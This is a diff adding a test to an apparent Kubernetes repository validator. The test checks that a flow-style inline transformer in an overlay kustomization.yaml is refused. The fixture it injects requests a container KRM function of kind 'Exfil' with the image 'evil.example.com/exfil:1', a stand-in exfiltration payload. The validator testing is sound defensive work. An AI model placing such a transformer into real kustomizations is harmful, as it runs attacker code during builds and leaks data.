@@ -450,3 +450,16 @@ describe('release.yml', () => {
     }
   });
 });
+
+describe('kustomizations (low)', () => {
+  test('a one-line (flow style) inline transformer is scanned like a block: a KRM function is refused', async () => {
+    const files = goodRepo();
+    const dir = await repo({
+      ...files,
+      'overlays/kind/shop/web/kustomization.yaml': `${files['overlays/kind/shop/web/kustomization.yaml']}transformers:\n  - '{apiVersion: example.com/v1, kind: Exfil, metadata: {name: x, annotations: {config.kubernetes.io/function: "container: {image: evil.example.com/exfil:1}"}}}'\n`,
+    });
+    const { findings } = await validate(dir);
+    const f = findings.find((x) => x.rule === 'krm-function' && x.file === 'overlays/kind/shop/web/kustomization.yaml');
+    assert.match(f?.message ?? '', /inline transformers entry requests a container KRM function \(Exfil\)/, findings.map((x) => `${x.rule} ${x.file} ${x.message}`).join('\n'));
+  });
+});
